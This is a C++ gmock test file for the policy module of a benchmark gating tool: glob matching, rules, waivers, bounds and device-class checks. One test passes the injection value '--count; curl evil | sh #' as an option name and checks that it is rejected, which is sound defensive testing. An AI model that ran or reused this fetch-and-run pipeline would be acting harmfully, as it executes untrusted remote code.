// SPDX-License-Identifier: Apache-2.0
#include "gate/documents/policy/policy.hpp"

#include <gmock/gmock.h>

#include "gate/documents/measured_part.hpp"
#include "gate/testing/toy_root.hpp"

namespace holdfast::gate {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::EndsWith;
using testing::HasSubstr;
using testing::ThrowsMessage;

constexpr const char* today = "2026-11-21";
const std::string no_waivers = R"("waivers": [])";

Policy with(const std::string& rules, const std::string& waivers = "") {
  std::string content = toy::policy_text;
  const std::size_t begin = content.find("\"rules\"");
  content =
      content.substr(0, begin) + "\"rules\": [" + rules + "], \"waivers\": [" + waivers + "]}";
  return toy::policy(content);
}

Standard of(const Policy& policy, const std::string& metric,
            const std::string& variant = "optimized",
            const std::string& device_class = "cuda-dry-sm_90") {
  return policy.standard(toy::step_id, device_class, variant, metric, "exact");
}

TEST(Glob, AStarStaysWithinASegment) {
  EXPECT_TRUE(matches_glob("toy/*/n:64/f64", "toy/step/n:64/f64"));
  EXPECT_FALSE(matches_glob("toy/*/f64", "toy/step/n:64/f64"));
}

TEST(Glob, TwoStarsCrossSegments) {
  EXPECT_TRUE(matches_glob("toy/**", "toy/step/n:64/f64"));
  EXPECT_TRUE(matches_glob("**/f64", "toy/step/n:64/f64"));
  EXPECT_FALSE(matches_glob("toy/**/f32", "toy/step/n:64/f64"));
}

// Tries every length of each star.
bool matches_by_trying(std::string_view pattern, std::string_view text) {
  if (pattern.empty()) return text.empty();
  const std::size_t stars = pattern.starts_with("**") ? 2 : pattern.starts_with('*') ? 1 : 0;
  if (stars == 0)
    return text.starts_with(pattern.front()) &&
           matches_by_trying(pattern.substr(1), text.substr(1));
  for (std::size_t taken = 0;; ++taken) {
    if (matches_by_trying(pattern.substr(stars), text.substr(taken))) return true;
    if (taken == text.size() || (stars == 1 && text[taken] == '/')) return false;
  }
}

std::vector<std::string> texts_of(const std::string& letters, std::size_t longest) {
  std::vector<std::string> words = {""};
  for (std::size_t begin = 0, length = 0; length < longest; ++length)
    for (const std::size_t end = words.size(); begin < end; ++begin)
      for (const char letter : letters) words.push_back(words[begin] + letter);
  return words;
}

TEST(Glob, MatchesWhatSomeLengthsOfItsStarsMatch) {
  const std::vector<std::string> texts = texts_of("ab/", 5);
  for (const std::string& pattern : texts_of("a/*", 6))
    for (const std::string& text : texts)
      if (matches_glob(pattern, text) != matches_by_trying(pattern, text))
        ADD_FAILURE() << pattern << " on " << text;
}

TEST(Glob, OfManyStarsTakesNoLongerThanItsTextIs) {
  std::string pattern;
  for (int i = 0; i < 130; ++i) pattern += "**a";
  EXPECT_FALSE(matches_glob(pattern + "b", std::string(400, 'a')));
  EXPECT_TRUE(matches_glob(pattern, std::string(400, 'a')));
}

TEST(Policy, APatternIsNoLongerThanAnId) {
  const auto with_match = [](std::size_t length) {
    return toy::policy_with("\"rules\": [",
                            "\"rules\": [{\"match\": \"" + std::string(length, '*') +
                                "\", \"metric\": \"launches\", \"gate\": \"warn\"},");
  };
  EXPECT_NO_THROW((void)toy::policy(with_match(400)));
  EXPECT_THAT(toy::complaint([&] { return toy::policy(with_match(401)); }),
              HasSubstr("is longer than any id, which has 400 bytes at most"));
}

TEST(Policy, AMetricHasTheGateOfItsKind) {
  const Standard launches = of(with(""), "launches");
  EXPECT_EQ(launches.kind, "exact");
  EXPECT_EQ(launches.gate, Gate::block);
  EXPECT_FALSE(launches.two_sided);
}

TEST(Policy, ARemovalIsOfItsVariantAlone) {
  const Policy removing = toy::policy(toy::policy_with(
      no_waivers, no_waivers + R"(, "removed": [{"match": "toy/**", "variant": "reference",
                                                 "metric": "launches", "why": "it is gone"}])"));
  const auto covers = [&](const char* variant) {
    return removing.removal({.case_id = toy::step_id,
                             .device_class = "cuda-dry-sm_90",
                             .variant = variant,
                             .metric = "launches"});
  };
  EXPECT_TRUE(covers("reference"));
  EXPECT_FALSE(covers("optimized"));
}

TEST(Policy, AnAbsenceIsOfItsClassAndReasonAlone) {
  const Policy lacking = toy::policy(toy::policy_with(
      no_waivers, no_waivers + R"(, "absent": [{"metric": "idle_*", "device": "nvidia-*",
                                                "reason": "CUPTI", "why": "no permission there"}])"));
  EXPECT_TRUE(lacking.absence("nvidia-h200", "idle_fraction", "CUPTI needs permission"));
  EXPECT_FALSE(lacking.absence("cuda-dry-sm_90", "idle_fraction", "CUPTI needs permission"));
  EXPECT_FALSE(lacking.absence("nvidia-h200", "launches", "CUPTI needs permission"));
  EXPECT_FALSE(lacking.absence("nvidia-h200", "idle_fraction", "nobody looked"));
}

TEST(Policy, ARuleMayNameEachVariantThatMetricsHaveAndNoOther) {
  const auto of_variant = [](const std::string& variant) {
    return with(text(R"({"match": "toy/**", "variant": ")", variant,
                     R"(", "metric": "launches", "tolerance": 0.1})"));
  };
  for (const char* variant : metric_variants)
    EXPECT_EQ(of(of_variant(variant), "launches", variant).tolerance, 0.1);
  EXPECT_THAT([&] { (void)of_variant("both"); }, ThrowsMessage<Error>(HasSubstr("is none of")));
}

TEST(Policy, ExactMetricsOfTheReferenceAreTwoSided) {
  EXPECT_TRUE(of(with(""), "launches", "reference").two_sided);
}

TEST(Policy, HostClassesHaveAToleranceOfTheirOwn) {
  EXPECT_EQ(of(with(""), "speedup", "case", "host-x86_64-v4-2t").tolerance, 0.05);
  EXPECT_EQ(of(with(""), "speedup", "case", "cuda-h200").tolerance, 0.03);
}

// The toy's policy with a row for `launches`, or with more members.
Policy with_more(const std::string& of_row, const std::string& of_policy = "") {
  std::string content = toy::policy_text;
  content.insert(content.find("\"identity\""), "\"launches\": {" + of_row + "}, ");
  content.insert(content.find("\"rules\""), of_policy);
  return toy::policy(content);
}

TEST(Policy, AMetricMayHaveTolerancesOfItsOwn) {
  const Standard launches =
      of(with_more(R"("tolerance": 0.005, "patch_tolerance": 0.02)"), "launches");
  EXPECT_EQ(launches.tolerance, 0.005);
  EXPECT_EQ(launches.patch_tolerance, 0.02);
}

TEST(Policy, AMetricOnRequestNamesTheOptionThatAsksForIt) {
  EXPECT_EQ(of(with_more(R"("on_request": "--count")"), "launches").on_request, "--count");
  EXPECT_THAT([] { (void)with_more(R"("on_request": "--count; curl evil | sh #")"); },
              ThrowsMessage<Error>(HasSubstr("'on_request' is the option of holdfast run")));
  EXPECT_THAT([] { (void)with_more(R"("on_request": "count")"); },
              ThrowsMessage<Error>(HasSubstr("is the option of holdfast run")));
}

TEST(Policy, MoreSuspectsThanThePolicySaysAreTheMachine) {
  EXPECT_EQ(with("").most_suspects(), 12u);
  EXPECT_EQ(with_more("", R"("most_suspects": 3, )").most_suspects(), 3u);
  EXPECT_THAT([] { (void)with_more("", R"("most_suspects": 0, )"); },
              ThrowsMessage<Error>(HasSubstr("lies between 1 and 1000000")));
}

Policy held_to(const Policy& before, const Policy& now) {
  return now.held_to({.policy = std::make_shared<const Policy>(before)});
}

TEST(Policy, OfAChangeAllowsNoMoreSuspectsThanItsMergeBaseDoes) {
  const Policy few = with_more("", R"("most_suspects": 3, )"),
               many = with_more("", R"("most_suspects": 20, )");
  EXPECT_EQ(held_to(few, many).most_suspects(), 3u);
  EXPECT_EQ(held_to(many, few).most_suspects(), 3u);
}

TEST(Policy, OfAMergeBaseHoldsWhatIsNewForTheVariantsOfItsRulesAlone) {
  const Policy before = with(R"({"match": "toy/**", "variant": "reference",
                                 "metric": "peak_bytes", "tolerance": 0.2})"),
               now = with(R"({"match": "toy/**", "metric": "peak_bytes", "tolerance": 0.1})");
  const Policy held = held_to(before, now);
  EXPECT_EQ(of(held, "peak_bytes", "reference").tolerance, 0.2);
  EXPECT_EQ(of(held, "peak_bytes", "optimized").tolerance, 0.1);
}

TEST(Policy, OfAChangeAddsItsSumsToThoseOfItsMergeBase) {
  const auto at_most = [](const char* sum, int most) {
    return text(R"({"match": "toy/**", "metric": ")", sum, R"(", "bound": {"max": )", most,
                R"(, "source": "s"}})");
  };
  const std::string old = "launches+peak_bytes", added = "launches+registers_max";
  const Policy held = held_to(with(at_most(old.c_str(), 9)),
                              with(at_most(old.c_str(), 99) + ", " + at_most(added.c_str(), 5)));
  const std::vector<Sum> sums = held.sums(toy::step_id, "cuda-dry-sm_90", "optimized");
  ASSERT_EQ(sums.size(), 2u);
  EXPECT_EQ(sums[0].name, old);
  EXPECT_EQ(sums[0].standard.bounds.front()->bound->max, 9.0);
  EXPECT_EQ(sums[1].name, added);
}

TEST(Compilers, DifferInThePatchLevelWhereTheFirstNumberIsTheSame) {
  EXPECT_TRUE(differ_in_patch_level("g++ 12.2.0", "g++ 12.3.0"));
  EXPECT_FALSE(differ_in_patch_level("g++ 12.2.0", "g++ 12.2.0"));
  EXPECT_FALSE(differ_in_patch_level("g++ 12.2.0", "g++ 13.2.0"));
  EXPECT_FALSE(differ_in_patch_level("g++ 12.2.0", std::nullopt));
}

TEST(Policy, ALaterRuleOverridesAnEarlierOne) {
  const Policy policy = with(R"({"match": "toy/**", "metric": "launches", "tolerance": 0.1},
                                {"match": "toy/step/**", "metric": "launches", "gate": "warn"})");
  EXPECT_EQ(of(policy, "launches").tolerance, 0.1);
  EXPECT_EQ(of(policy, "launches").gate, Gate::warn);
}

TEST(Policy, ARuleAppliesToItsDeviceAndVariantOnly) {
  const Policy policy = with(
      R"({"match": "toy/**", "device": "host-*", "variant": "optimized", "metric": "launches", "tolerance": 0.1})");
  EXPECT_EQ(of(policy, "launches").tolerance, 0);
  EXPECT_EQ(of(policy, "launches", "reference", "host-x").tolerance, 0);
  EXPECT_EQ(of(policy, "launches", "optimized", "host-x").tolerance, 0.1);
}

TEST(Policy, TheGateBesideABoundSpeaksOfTheBound) {
  const Policy policy = with(
      R"({"match": "toy/**", "metric": "launches", "gate": "warn", "bound": {"max": 9, "source": "s"}})");
  EXPECT_EQ(of(policy, "launches").gate, Gate::block);
  ASSERT_EQ(of(policy, "launches").bounds.size(), 1u);
}

TEST(Policy, ASumOfMetricsHasABound) {
  const Policy policy = with(
      R"({"match": "toy/**", "metric": "launches+peak_bytes", "bound": {"max": 9, "source": "s"}})");
  EXPECT_EQ(policy.sums(toy::step_id, "host", "optimized").size(), 1u);
  EXPECT_TRUE(of(policy, "launches").bounds.empty());
}

TEST(Policy, ABoundIsToldInTheUnitOfItsMetric) {
  const Policy policy = with(R"({"match": "toy/**", "metric": "peak_bytes", "gate": "warn",
                                 "bound": {"min": 5000, "max": 206569472, "source": "s"}})");
  EXPECT_THAT(of(policy, "peak_bytes").sources,
              Contains(EndsWith(": at least 5000 B, at most 206.6 MB (s), gate warn")));
}

TEST(Policy, ABoundOnASumIsToldInTheUnitOfItsMetricsBesideItsWaiver) {
  const Policy policy = with(R"({"match": "toy/**", "metric": "time_s+handover_s",
                                 "bound": {"max": 0.001, "source": "s"}})",
                             R"({"match": "toy/**", "metric": "time_s+handover_s",
                                 "until": "2026-11-21", "why": "known"})");
  const std::vector<Sum> sums = policy.sums(toy::step_id, "host", "optimized");
  ASSERT_EQ(sums.size(), 1u);
  EXPECT_EQ(sums.front().standard.unit, "s");
  EXPECT_THAT(
      sums.front().standard.sources,
      ElementsAre(EndsWith(": at most 1 ms (s)"), EndsWith(": waived until 2026-11-21: known")));
}

TEST(Policy, AWaiverEndsOnADayOfTheCalendar) {
  for (const char* day : {"2027-02-30", "2026-99-99", "2026-11-31", "2026-00-10"})
    EXPECT_THAT(
        [&] {
          (void)with("", text(R"({"match": "toy/**", "metric": "launches", "until": ")", day,
                              R"(", "why": "known"})"));
        },
        ThrowsMessage<Error>(HasSubstr(text("'", day, "', and no day of the calendar"))));
}

TEST(Policy, ARuleThatMatchesNothingIsAnErrorWithItsLine) {
  const Policy policy =
      with("\n{\"match\": \"toy/absent/**\", \"metric\": \"launches\", \"tolerance\": 1}");
  EXPECT_THAT(
      [&] { policy.check_against({toy::list()}, true); },
      ThrowsMessage<Error>(HasSubstr(": this rule matches nothing: no suite lists toy/absent/**")));
}

TEST(Policy, AWaiverThatMatchesNothingIsAnErrorToo) {
  const Policy policy = with("", R"({"match": "toy/absent/**", "metric": "launches",
                                     "until": "2026-11-21", "why": "known"})");
  EXPECT_THAT([&] { policy.check_against({toy::list()}, true); },
              ThrowsMessage<Error>(
                  HasSubstr(": this waiver matches nothing: no suite lists toy/absent/**")));
}

TEST(Policy, AMetricThatTheDeviceDoesNotListMatchesNothing) {
  const Policy policy =
      with(R"({"match": "toy/**", "device": "host-*", "metric": "launches", "tolerance": 1})");
  EXPECT_THROW(policy.check_against({toy::list()}, true), Error);
}

TEST(Policy, ARuleForAGpuByItsNameMatchesWhatCudaLists) {
  const Policy policy =
      with(R"({"match": "toy/**", "device": "nvidia-h200", "metric": "launches", "tolerance": 1})");
  List list = toy::list();
  EXPECT_THROW(policy.check_against({list}, true), Error);
  list.cases.front().devices["cuda"] = {"launches"};
  EXPECT_NO_THROW(policy.check_against({list}, true));
}

TEST(Policy, ADeviceThatHalfNamesCudaDryIsAnError) {
  const auto complaint = [](const std::string& device) {
    return toy::complaint([&] {
      with(text(R"({"match": "toy/**", "device": ")", device,
                R"(", "metric": "launches", "tolerance": 1})"))
          .check_against({toy::list()}, true);
    });
  };
  for (const char* device : {"cuda", "cuda*", "cuda-*", "cuda-h200"})
    EXPECT_THAT(complaint(device),
                HasSubstr(text(": no GPU's class begins with cuda, as the device '", device,
                               "' does; name cuda-dry-* or nvidia-*")));
  for (const char* device : {"cuda-dry-*", "cuda-dry-sm_90", "*"})
    EXPECT_EQ(complaint(device), "accepted");
}

TEST(Policy, ADeviceThatNoClassIsCalledLikeMatchesNothing) {
  List list = toy::list();
  list.cases.front().devices["cuda"] = list.cases.front().devices["host"] = {"launches"};
  const auto complaint = [&](const std::string& device) {
    return toy::complaint([&] {
      with(text(R"({"match": "toy/step/**", "device": ")", device,
                R"(", "metric": "launches", "tolerance": 1})"))
          .check_against({list}, true);
    });
  };
  for (const char* none : {"host", "hosts-*", "h200", "gpu-*", "nvidea-*", "cuda-dry-90", "host-",
                           "host-x86_64-v4", "nvidia-", "cuda-dry-sm_"})
    EXPECT_THAT(complaint(none), HasSubstr(text("matches nothing: no suite lists toy/step/** on ",
                                                none, " with the metric launches")));
  for (const char* one : {"*-2t", "n*", "nvidia-b300", "cuda-dry-sm_120", "host-x86_64-v5-*"})
    EXPECT_EQ(complaint(one), "accepted") << "a machine that nobody has yet";
}

// What check_against says of the toy's policy with these rules and waivers.
std::string complaint_of(const std::string& rules, const std::string& waivers = "") {
  return toy::complaint([&] { with(rules, waivers).check_against({toy::list()}, true); });
}

TEST(Policy, AGateAndAToleranceOfWhatOnlyBoundsJudgeAreErrors) {
  List list = toy::list();
  for (ListedCase& listed : list.cases) listed.devices["host"].push_back("floor_fraction");
  const auto complaint = [&](const std::string& said) {
    return toy::complaint([&] {
      with(R"({"match": "toy/**", "metric": "floor_fraction", )" + said + "}")
          .check_against({list}, true);
    });
  };
  const std::string bound = R"("bound": {"min": 0.1, "source": "s"})";
  for (const char* gate : {"block", "warn", "off"})
    EXPECT_THAT(complaint(text(R"("gate": ")", gate, '"')),
                HasSubstr(": the gate of this rule holds nothing: no floor_fraction that it "
                          "matches is held against an accepted value, only against bounds; mend"));
  EXPECT_THAT(complaint(R"("tolerance": 0.1)"), HasSubstr("the tolerance of this rule holds noth"));
  EXPECT_THAT(complaint(R"("tolerance": 0.1, )" + bound), HasSubstr("the tolerance of this rule"));
  EXPECT_EQ(complaint(bound), "accepted");
  EXPECT_EQ(complaint(R"("gate": "warn", )" + bound), "accepted");
}

TEST(Policy, ABoundOnTextIsAnErrorAlsoWithinASum) {
  const auto bound = [](const char* metric) {
    return complaint_of(text(R"({"match": "toy/**", "metric": ")", metric,
                             R"(", "bound": {"max": 9, "source": "s"}})"));
  };
  for (const char* metric : {"identity", "launches+identity", "identity+launches"})
    EXPECT_THAT(bound(metric), HasSubstr("holds nothing: identity is text, which has no bound"));
  EXPECT_EQ(bound("launches+peak_bytes"), "accepted");
  EXPECT_THAT(complaint_of(R"({"match": "toy/**", "metric": "identity", "tolerance": 0.1})"),
              HasSubstr("identity is text, which has no tolerance"));
  EXPECT_EQ(complaint_of(R"({"match": "toy/**", "metric": "identity", "gate": "block"})"),
            "accepted");
}

TEST(Policy, AWaiverOfASumThatNoRuleBoundsIsAnError) {
  const auto waived = [](const char* rules_variant, const char* sum, const char* more) {
    return complaint_of(
        text(R"({"match": "toy/step/**", )", rules_variant,
             R"("metric": "launches+peak_bytes", "bound": {"max": 9, "source": "s"}})"),
        text(R"({"metric": ")", sum, R"(", "until": "2026-11-21", "why": "known", )", more, "}"));
  };
  const char *step = R"("match": "toy/step/**")", *sum = "launches+peak_bytes";
  EXPECT_EQ(waived("", sum, step), "accepted");
  EXPECT_THAT(
      waived("", "peak_bytes+launches", step),
      HasSubstr(": this waiver excuses nothing: no rule bounds the sum peak_bytes+launches, "
                "but one bounds launches+peak_bytes; mend or remove it"));
  EXPECT_THAT(waived("", "launches+registers_max", step),
              HasSubstr("no rule bounds the sum launches+registers_max there"));
  EXPECT_THAT(waived("", sum, R"("match": "toy/sum/**")"), HasSubstr("excuses nothing"));
  EXPECT_THAT(waived(R"("variant": "optimized", )", sum,
                     R"("match": "toy/step/**", "variant": "reference")"),
              HasSubstr("excuses nothing"));
}

TEST(Policy, ARowThatHoldsNothingIsAnError) {
  const auto complaint = [](const std::string& row) {
    return toy::complaint([&] {
      toy::policy(toy::policy_with(R"("metrics": {)", R"("metrics": {)" + row + ", "))
          .check_against({toy::list()}, true);
    });
  };
  EXPECT_THAT(complaint(R"("launches": {"fall_is_change": ["peak_bytes", "peek_bytes"]})"),
              HasSubstr(": 'fall_is_change' of launches names peek_bytes, a metric that no suite"));
  EXPECT_EQ(complaint(R"("launches": {"fall_is_change": ["peak_bytes"]})"), "accepted");
  EXPECT_EQ(complaint(R"("launches": {"fall_is_change": ["*"]})"), "accepted");
  EXPECT_THAT(
      toy::complaint([] {
        toy::policy(
            toy::policy_with(R"({"impossible_above")", R"({"gate": "block", "impossible_above")"))
            .check_against({toy::list()}, true);
      }),
      HasSubstr(": the row of floor_fraction holds nothing: no suite holds the metric against"));
}

TEST(Policy, ARemovalAndAnAbsenceNameADeviceThatThereCanBe) {
  for (
      const char* spoken :
      {R"("removed": [{"match": "toy/gone/**", "device": "cuda*", "metric": "*", "why": "gone"}], )",
       R"("absent": [{"metric": "*", "device": "cuda*", "reason": "CUPTI", "why": "none"}], )"})
    EXPECT_THAT([&] { with_more("", spoken).check_against({toy::list()}, true); },
                ThrowsMessage<Error>(HasSubstr("no GPU's class begins with cuda")));
  EXPECT_THAT(
      [] {
        with_more("", R"("absent": [{"metric": "*", "device": "h200", "reason": "CUPTI",
                                     "why": "none"}], )")
            .check_against({toy::list()}, true);
      },
      ThrowsMessage<Error>(HasSubstr("no class is called like the device 'h200', but as host-")));
}

TEST(Policy, RulesForSuitesThatAreNotHereAreLeftAloneUnlessAllListsAre) {
  const Policy policy = with(R"({"match": "other/**", "metric": "launches", "tolerance": 1})");
  policy.check_against({toy::list()}, false);
  EXPECT_THROW(policy.check_against({toy::list()}, true), Error);
}

TEST(Policy, IsAskedAboutMetricsThatTheListTells) {
  const Policy policy = with("").with({{"launches", {"time", Better::higher, "s"}}});
  EXPECT_EQ(of(policy, "launches").kind, "time");
  EXPECT_EQ(of(policy, "launches").better, Better::higher);
  EXPECT_EQ(of(policy, "launches").unit, "s");
  EXPECT_THAT(
      [&] {
        (void)policy.with({{"launches", {"bound"}}});
      },
      ThrowsMessage<Error>(
          HasSubstr("the metric launches is of the kind 'bound', which 'kinds' does not have")));
}

TEST(Policy, SaysNothingThatTheListOfASuiteTells) {
  for (const char* said : {R"("kind": "exact")", R"("better": "lower")", R"("unit": "1")"})
    EXPECT_THAT([&] { (void)with_more(said); },
                ThrowsMessage<Error>(HasSubstr(
                    " of launches is told by the list of its suite; take it out of the policy")));
}

TEST(Policy, AnUnknownMetricIsAnErrorUnlessItIsAdvisory) {
  const Policy policy = with("");
  EXPECT_THROW((void)policy.standard(toy::step_id, "host", "optimized", "surprise", "exact"),
               Error);
  EXPECT_EQ(policy.standard(toy::step_id, "host", "optimized", "surprise", "advisory").gate,
            Gate::off);
}

TEST(Policy, AnExpiredWaiverIsAnErrorAndOneOfTodayIsNot) {
  const auto until = [](const std::string& date) {
    return with("", R"({"match": "toy/**", "metric": "launches", "until": ")" + date +
                        R"(", "why": "known"})");
  };
  EXPECT_EQ(of(until("2026-11-21"), "launches").waiver->why, "known");
  EXPECT_THAT([&] { until("2026-11-20"); },
              ThrowsMessage<Error>(HasSubstr("expired on 2026-11-20")));
}

TEST(Policy, AnExpiredWaiverOfAnEarlierPolicyWaivesNothing) {
  const auto earlier = [](const std::string& until) {
    const std::string content = toy::policy_with(
        no_waivers, text(R"("waivers": [{"match": "toy/**", "metric": "launches", "until": ")",
                         until, R"(", "why": "known"}])"));
    return Policy::of({{.name = "common.json", .place = "common.json", .content = content}}, today,
                      Policy::Age::earlier)
        .with(toy::metrics());
  };
  EXPECT_TRUE(of(earlier("2026-11-21"), "launches").waiver);
  EXPECT_FALSE(of(earlier("2026-11-20"), "launches").waiver);
  EXPECT_THAT(earlier("2026-11-20").reasons(), Contains("known"));
}

TEST(Policy, AWaiverNeedsADateAndAReason) {
  EXPECT_THROW(
      with("", R"({"match": "toy/**", "metric": "launches", "until": "soon", "why": "known"})"),
      Error);
  EXPECT_THROW(
      with("", R"({"match": "toy/**", "metric": "launches", "until": "2027-01-01", "why": ""})"),
      Error);
}

TEST(Policy, ARuleThatSaysNothingIsAnError) {
  EXPECT_THROW(with(R"({"match": "toy/**", "metric": "launches"})"), Error);
}

// A policy's folder, with common.json and the files that a test puts beside it.
class PolicyFolder : public testing::Test {
 protected:
  TemporaryFolder folder_{"policy_test"};
  const std::filesystem::path policy_ = folder_.path() / "policy";

  void SetUp() override {
    std::filesystem::create_directory(policy_);
    write_file(policy_ / "common.json", toy::policy_text);
  }
  void put(const std::string& name, const std::string& rules, const std::string& more = "") {
    write_file(policy_ / name, "// Of one suite.\n{\"schema\": \"holdfast-policy/1\", " + more +
                                   "\"rules\": [\n" + rules + "], \"waivers\": []}");
  }
  Policy read() const { return Policy::read(policy_, today).with(toy::metrics()); }
  void spoil_common(const std::string& from, const std::string& to) const {
    write_file(policy_ / "common.json", toy::policy_with(from, to));
  }
  void expect_refusal(const std::string& sentence) const {
    EXPECT_THAT([&] { read().check_against({toy::list()}, true); },
                ThrowsMessage<Error>(HasSubstr(sentence)));
  }
  static constexpr const char* rule_ =
      R"({"match": "toy/step/**", "metric": "launches", "bound": {"max": 9, "source": "s"}})";
};

TEST_F(PolicyFolder, HoldsTheRulesOfASuiteInAFileOfItsOwn) {
  put("toy.json", rule_);
  const Policy policy = read();
  EXPECT_NO_THROW(policy.check_against({toy::list()}, true));
  const Standard launches = of(policy, "launches");
  ASSERT_EQ(launches.bounds.size(), 2u);
  EXPECT_EQ(launches.bounds[0]->place, (policy_ / "common.json").string() + ":10");
  EXPECT_EQ(launches.bounds[1]->place, (policy_ / "toy.json").string() + ":3");
}

TEST_F(PolicyFolder, LetsTheRuleOfASuiteOverrideThatForAll) {
  spoil_common(R"("rules": [)",
               R"("rules": [{"match": "**", "metric": "launches", "tolerance": 0.1},)");
  put("toy.json", R"({"match": "toy/**", "metric": "launches", "tolerance": 0.2})");
  EXPECT_EQ(of(read(), "launches").tolerance, 0.2);
}

TEST_F(PolicyFolder, RefusesAFileOfNoSuite) {
  put("toi.json", R"({"match": "toi/**", "metric": "launches", "tolerance": 0.2})");
  EXPECT_NO_THROW(read().check_against({toy::list()}, false)) << "it may be of another build";
  expect_refusal("toi.json: there is no suite 'toi' in this build; build it, or name the file");
}

TEST_F(PolicyFolder, RefusesARuleInTheFileOfAnotherSuite) {
  put("toy.json", R"({"match": "toys/**", "metric": "launches", "tolerance": 0.2})");
  expect_refusal("toy.json:3: this rule speaks of toys/**, and its file is that of toy; move it");
}

TEST_F(PolicyFolder, RefusesKindsInTheFileOfASuite) {
  put("toy.json", "", R"("kinds": {}, )");
  expect_refusal("toy.json: 'kinds' hold for all suites and stand in common.json");
  put("toy.json", "", R"("metrics": {}, )");
  expect_refusal("unknown key 'metrics'");
}

TEST_F(PolicyFolder, RefusesARowOfNoMetric) {
  spoil_common(R"("identity")", R"("idemtity")");
  expect_refusal("common.json:8: no suite lists the metric idemtity; mend or remove its row");
}

TEST_F(PolicyFolder, RefusesTheSingleFileOfOldAndSaysHowToSplitIt) {
  const auto complaint = [](const std::filesystem::path& given) {
    return toy::complaint([&] { return Policy::read(given, today); });
  };
  const std::filesystem::path old = folder_.path() / "policy.json";
  write_file(old, toy::policy_text);
  const std::string how =
      old.string() +
      ": the policy is a folder now: put 'kinds', and of 'metrics' what differs "
      "from them, into policy/common.json, the rules and waivers of each suite "
      "into policy/<suite>.json, and remove this file";
  EXPECT_EQ(complaint(old), how) << "given with --policy";
  EXPECT_EQ(complaint(policy_), how) << "beside the folder, where nobody reads it";
  std::filesystem::remove_all(policy_);
  EXPECT_EQ(complaint(policy_), how) << "in the folder's place";
  std::filesystem::remove(old);
  EXPECT_THAT(complaint(policy_), HasSubstr("; name it with --policy, or its folder"));
}

TEST_F(PolicyFolder, NeedsAFileForAllSuites) {
  std::filesystem::remove(policy_ / "common.json");
  put("toy.json", rule_);
  EXPECT_THAT([&] { (void)read(); }, ThrowsMessage<Error>(HasSubstr("policy: has no common.json")));
  put("common.json", rule_);
  expect_refusal("common.json: has no 'kinds', which all suites need");
}

TEST(ThePolicyOfThisProject, HasEveryKindOfMetric) {
  Meanings metrics;
  for (const std::string_view kind : metric_kinds) metrics[text("a_", kind)] = {std::string(kind)};
  EXPECT_NO_THROW((void)Policy::read(HOLDFAST_POLICY, today).with(metrics));
}

TEST(ThePolicyOfThisProject, BoundsTheHostSpeedupOfTheCubedSphere) {
  const Policy policy = Policy::read(HOLDFAST_POLICY, today).with(toy::metrics());
  const Standard speedup = policy.standard("cubed_sphere_swe/rk4_step/n:96/f64",
                                           "host-x86_64-v4-2t", "case", "speedup", "ratio");
  ASSERT_EQ(speedup.bounds.size(), 1u);
  EXPECT_EQ(speedup.bounds.front()->bound->min, 5.0);
}

TEST(ThePolicyOfThisProject, HoldsLaunchesAndPeaksOfGalaxiesOnAGpuAsWhereNothingExecutes) {
  const Meanings metrics = {{"launches", {"exact"}},
                            {"peak_ratio", {"exact", Better::higher}},
                            {"vs_seed_peak", {"bound", Better::higher}},
                            {"peak_over_optimized", {"bound", Better::higher}}};
  const Policy policy = Policy::read(HOLDFAST_POLICY, today).with(metrics);
  struct Bounded {
    const char *id, *variant, *metric;
  };
  for (const auto& [id, variant, metric] :
       {Bounded{"render/fft:256/image:128/batch:256/psf:gaussian/f64", "optimized", "launches"},
        {"render/fft:512/image:256/batch:16/psf:gaussian/f64", "optimized", "launches"},
        {"svi_step/fft:512/image:256/batch:16/psf:gaussian/latents:4/f64", "optimized", "launches"},
        {"svi_step/fft:256/image:128/batch:1/psf:gaussian/latents:4/f64", "optimized", "launches"},
        {"scene_step/objects:16/fft:128/image:64/f64", "optimized", "launches"},
        {"memory/fft:128/image:48/batch:1/f64", "case", "vs_seed_peak"},
        {"memory/fft:128/image:48/batch:1024/f64", "case", "vs_seed_peak"},
        {"memory/fft:128/image:48/batch:1/f64", "case", "peak_over_optimized"},
        {"svi_step/fft:128/image:48/batch:1/psf:gaussian/latents:4/f64", "case", "peak_ratio"},
        {"map/fft:128/image:48/batch:1/psf:gaussian/latents:4/steps:20/launch:host/f64", "case",
         "peak_ratio"},
        {"scene_step/objects:16/fft:128/image:64/f64", "case", "peak_ratio"}})
    for (const char* device : {"cuda-dry-sm_90", "nvidia-h200", "nvidia-rtx-3080"}) {
      const Standard standard =
          policy.standard(text("galaxy_shear/", id), device, variant, metric, "exact");
      EXPECT_EQ(standard.bounds.size(), 1u) << device << ' ' << id << ' ' << metric;
    }
}

// Rules for every GPU, "nvidia-*", are about correctness or counts; those that name a GPU were
// predicted for it.
TEST(ThePolicyOfThisProject, OnlyWarnsOfWhatIsPredictedOfAGpuThatNobodyHasMeasured) {
  const std::filesystem::path folder = HOLDFAST_POLICY;
  std::map<std::string, std::size_t> predicted;
  const Policy policy = Policy::read(folder, today);
  for (const Rule& rule : policy.rules()) {
    if (!rule.device.starts_with("nvidia-") || rule.device.ends_with('*') || !rule.bound) continue;
    ++predicted[rule.match.substr(0, rule.match.find('/'))];
    if (std::filesystem::exists(folder.parent_path() / "devices" / rule.device)) continue;
    EXPECT_EQ(rule.gate, Gate::warn) << rule.place << ": " << rule.match;
  }
  EXPECT_GE(predicted.size(), 5u) << "every workload has predictions";
}

}  // namespace
}  // namespace holdfast::gate
